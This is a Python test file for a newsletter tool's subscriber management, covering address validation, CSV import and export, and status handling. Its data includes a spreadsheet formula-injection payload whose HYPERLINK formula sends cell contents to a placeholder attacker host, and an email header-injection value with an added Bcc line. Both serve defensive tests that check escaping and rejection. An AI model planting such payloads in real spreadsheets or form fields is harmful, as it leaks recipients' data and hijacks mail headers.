"""Subscribers: validation, add/remove, CSV import (bad rows by line, idempotent), export."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from publisher.subscribers import FORMULA_START, SubscriberError, escape_cell, normalize_email, unescape_cell


@pytest.mark.parametrize(("raw", "expected"), [
    ("Reader@Example.COM", "reader@example.com"),
    ("  a.b+tag@sub.example.jp ", "a.b+tag@sub.example.jp"),
])
def test_normalize_email(raw, expected):
    assert normalize_email(raw) == expected


@pytest.mark.parametrize("raw", ["", "no-at-sign", "a@b", "a@@b.com", "a b@example.com", "a@example.com\nBcc: x@y.z",
                                 "Name <a@example.com>", "a..b@example.com", "a@-bad-.com", "日本@example.com",
                                 "a@[", "x@[192.0.2.1", "a.}@[&", "Ａ@[~"])
def test_invalid_addresses(raw):
    with pytest.raises(SubscriberError):
        normalize_email(raw)


@pytest.fixture
def published(site):
    """The example site after one pass: its posts' categories are the known ones."""
    assert site.run("--now", "2026-03-12T20:00:00+09:00").exit_code == 0
    return site


def test_add_update_remove_and_list(published):
    site = published
    assert "added" in site.run("subscribers", "add", "a@example.com", "--name", "A").output
    assert "unchanged" in site.run("subscribers", "add", "a@example.com", "--name", "A").output
    assert "updated" in site.run("subscribers", "add", "a@example.com", "--category", "半導体").output
    listed = site.run("subscribers", "list").output
    assert "a@example.com\tactive\t半導体\tA" in listed, "the name given before stays"
    assert "unsubscribed" in site.run("subscribers", "remove", "a@example.com").output
    again = site.run("subscribers", "add", "a@example.com")
    assert again.exit_code == 1 and "--resubscribe" in again.output
    assert "updated" in site.run("subscribers", "add", "a@example.com", "--resubscribe").output
    bad = site.run("subscribers", "add", "not-an-address")
    assert bad.exit_code == 2 and "not-an-address" in bad.output
    odd = site.run("subscribers", "add", "a@[")
    assert odd.exit_code == 2 and "'a@[' is not a valid address" in odd.output, odd.output
    missing = site.run("subscribers", "remove", "nobody@example.com")
    assert missing.exit_code == 1 and "no such subscriber" in missing.output
    assert "deleted" in site.run("subscribers", "remove", "a@example.com", "--purge").output
    assert "a@example.com" not in site.run("subscribers", "list").output


def test_an_edit_changes_only_what_is_given(published):
    site = published
    site.run("subscribers", "add", "a@example.com", "--name", "山田", "--category", "半導体", "--category", "政策")
    renamed = site.run("subscribers", "add", "a@example.com", "--name", "山田 太郎")
    assert renamed.exit_code == 0 and "updated" in renamed.output
    assert "a@example.com\tactive\t半導体, 政策\t山田 太郎" in site.run("subscribers", "list").output
    site.run("subscribers", "add", "a@example.com", "--category", "Research")
    assert "a@example.com\tactive\tResearch\t山田 太郎" in site.run("subscribers", "list").output
    site.run("subscribers", "add", "a@example.com", "--all-categories")
    assert "a@example.com\tactive\t(all)\t山田 太郎" in site.run("subscribers", "list").output
    both = site.run("subscribers", "add", "a@example.com", "--all-categories", "--category", "政策")
    assert both.exit_code == 2 and "not both" in both.output


def test_unknown_category_is_an_error_naming_the_known_ones(published):
    site = published
    typo = site.run("subscribers", "add", "a@example.com", "--category", "半導休")
    assert typo.exit_code == 2
    assert "unknown category '半導休' (did you mean '半導体'?); known categories: Research, 半導体, 導入事例, " \
           "市場動向, 投資分析, 政策" in typo.output
    assert "--allow-new-category" in typo.output
    assert "a@example.com" not in site.run("subscribers", "list").output, "nothing was added"
    new = site.run("subscribers", "add", "a@example.com", "--category", "ロボット", "--allow-new-category")
    assert new.exit_code == 0 and "a@example.com\tactive\tロボット" in site.run("subscribers", "list").output


def test_categories_before_any_post_need_the_flag(site):
    result = site.run("subscribers", "add", "a@example.com", "--category", "半導体")
    assert result.exit_code == 2 and "known categories: none yet" in result.output
    assert site.run("subscribers", "add", "a@example.com").exit_code == 0, "following everything needs no category"


def test_import_reports_bad_rows_by_line_and_is_idempotent(published):
    site = published
    path = site.root / "subs.csv"
    path.write_text("email,name,categories\n"
                    "one@example.com,一郎,半導体; 政策\n"
                    "broken-address,Bad,\n"
                    "two@example.com,,\n"
                    ",Empty,\n"
                    "ONE@example.com,一郎,半導体; 市場\n"
                    "three@example.com,三郎,半導体; 政策x\n", encoding="utf-8")
    first = site.run("subscribers", "import", str(path))
    assert first.exit_code == 1
    assert f"{path}:3: 'broken-address' is not a valid address" in first.output
    assert f"{path}:5: the address is empty" in first.output
    assert f"{path}:6: one@example.com is already on line 2; this row is skipped" in first.output
    assert f"{path}:7: unknown category '政策x' (did you mean '政策'?)" in first.output
    assert "2 added" in first.output and "4 bad row(s)" in first.output
    second = site.run("subscribers", "import", str(path))
    assert f"{site.root / 'subs.csv'}: 2 unchanged; 4 bad row(s)" in second.output, second.output
    assert second.output.count("is already on line 2") == 1, "the duplicate is reported once, by line"
    assert "updated" not in second.output
    assert "one@example.com\tactive\t半導体, 政策\t一郎" in site.run("subscribers", "list").output, "line 2 wins"
    site.run("subscribers", "remove", "two@example.com")
    third = site.run("subscribers", "import", str(path))
    assert "1 unsubscribed" in third.output, "an import never re-subscribes"
    assert "two@example.com\tunsubscribed" in site.run("subscribers", "list").output
    allowed = site.run("subscribers", "import", str(path), "--allow-new-category")
    assert "1 added" in allowed.output and "3 bad row(s)" in allowed.output


def test_import_leaves_absent_columns_alone(published):
    site = published
    site.run("subscribers", "add", "a@example.com", "--name", "A", "--category", "半導体")
    names = site.root / "names.csv"
    names.write_text("email,name\na@example.com,Aさん\n", encoding="utf-8")
    assert "1 updated" in site.run("subscribers", "import", str(names)).output
    only = site.root / "only.csv"
    only.write_text("email\na@example.com\n", encoding="utf-8")
    assert "1 unchanged" in site.run("subscribers", "import", str(only)).output
    assert "a@example.com\tactive\t半導体\tAさん" in site.run("subscribers", "list").output


def test_import_without_email_column(site):
    path = site.root / "subs.csv"
    path.write_text("address,name\na@example.com,A\n")
    result = site.run("subscribers", "import", str(path))
    assert result.exit_code == 2 and "no 'email' column" in result.output


def test_export_round_trips(published, tmp_path):
    site = published
    site.run("subscribers", "add", "a@example.com", "--name", "A, with comma", "--category", "半導体",
             "--category", "政策")
    exported = site.run("subscribers", "export").stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows[0]["email"] == "a@example.com" and rows[0]["name"] == "A, with comma"
    assert rows[0]["categories"] == "半導体; 政策" and rows[0]["status"] == "active"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d\+09:00", rows[0]["joined"]), "the one time format"
    path = tmp_path / "back.csv"
    path.write_text(exported, encoding="utf-8")
    assert "1 unchanged" in site.run("subscribers", "import", str(path)).output


NASTY = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-2", "@SUM(A1:A2)", "\tindent",
         "\rreturn", "'=already quoted", "'Tis", "''", "＝全角", "normal", "", "=", "a=b", " =spaced"]


def test_export_escapes_formulas_and_import_reads_them_back(published, tmp_path):
    site = published
    for i, name in enumerate(NASTY):
        assert site.run("subscribers", "add", f"r{i}@example.com", "--name", name).exit_code == 0
    site.run("subscribers", "add", "=cmd@example.com", "--name", "-x", "--category", "=new", "--allow-new-category")
    exported = site.run("subscribers", "export").stdout
    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), f"unescaped formula cell {cell!r}"
    assert "'=HYPERLINK(" in exported and "'=cmd@example.com" in exported and "'-x" in exported
    path = tmp_path / "back.csv"
    path.write_text(exported, encoding="utf-8")
    back = site.run("subscribers", "import", str(path))
    assert back.exit_code == 0 and f"{len(NASTY) + 1} unchanged" in back.output, back.output
    listed = {line.split("\t")[0]: line.split("\t", 3)[3] for line in site.run("subscribers", "list").stdout.splitlines()}
    assert listed["=cmd@example.com"] == "-x"
    assert [listed[f"r{i}@example.com"] for i in range(len(NASTY))] == [n.strip() for n in NASTY]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'＝＋－＠ ax;,\"\n"), max_size=8))
def test_cell_escaping_round_trips(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_START)


def test_names_with_control_characters_are_refused(published):
    site = published
    bad = site.run("subscribers", "add", "a@example.com", "--name", "A\nBcc: victim@example.com")
    assert bad.exit_code == 2 and "holds a control character ('\\n')" in bad.output
    path = site.root / "subs.csv"
    path.write_text("email,name\nb@example.com,x\x00y\nc@example.com,山田\u3000太郎\n", encoding="utf-8")
    result = site.run("subscribers", "import", str(path))
    assert result.exit_code == 1 and f"{path}:2: the name 'x\\x00y' holds a control character" in result.output
    assert "1 added" in result.output, "a full-width space is part of a Japanese name, not a control character"


def test_an_export_imported_into_a_new_database_keeps_who_left(published, tmp_path):
    """Moving to a new server (or restoring) by export → import must not re-subscribe the addresses that
    unsubscribed or bounced: the status column says they left, and they stay left."""
    site = published
    for address in ("stays@example.com", "left@example.com", "bounced@example.com"):
        site.run("subscribers", "add", address)
    site.run("subscribers", "remove", "left@example.com")
    from publisher.store.sqlite import SQLiteStore

    store = SQLiteStore.open(site.db)
    store.set_subscriber_status(store.subscriber("bounced@example.com").id, "bounced", "2026-03-12T12:00:00+00:00")
    store.close()
    path = tmp_path / "moving.csv"
    path.write_text(site.run("subscribers", "export").stdout, encoding="utf-8")

    site.db.unlink()
    assert site.run("--now", "2026-03-12T20:00:00+09:00").exit_code == 0
    moved = site.run("subscribers", "import", str(path))
    assert moved.exit_code == 0, moved.output
    listed = dict(line.split("\t")[:2] for line in site.run("subscribers", "list").stdout.splitlines())
    assert listed == {"stays@example.com": "active", "left@example.com": "unsubscribed",
                      "bounced@example.com": "bounced"}
    again = site.run("subscribers", "import", str(path))
    assert again.exit_code == 0 and "added" not in again.output, again.output

    path.write_text("email,status\nstays@example.com,unsubscribed\nodd@example.com,gone\n", encoding="utf-8")
    told = site.run("subscribers", "import", str(path))
    assert told.exit_code == 1 and f"{path}:3: unknown status 'gone'" in told.output, told.output
    assert "stays@example.com\tunsubscribed" in site.run("subscribers", "list").stdout


def test_a_header_naming_a_column_twice_is_refused(published):
    """With two `email` columns only one could be read, and the other's addresses would vanish unreported."""
    path = published.root / "twice.csv"
    path.write_text("email,name,Email\nfirst@example.com,A,second@example.com\n", encoding="utf-8")
    result = published.run("subscribers", "import", str(path))
    assert result.exit_code == 2 and f"{path}:1: the header names 'email' twice" in result.output, result.output
    assert "example.com" not in published.run("subscribers", "list").stdout
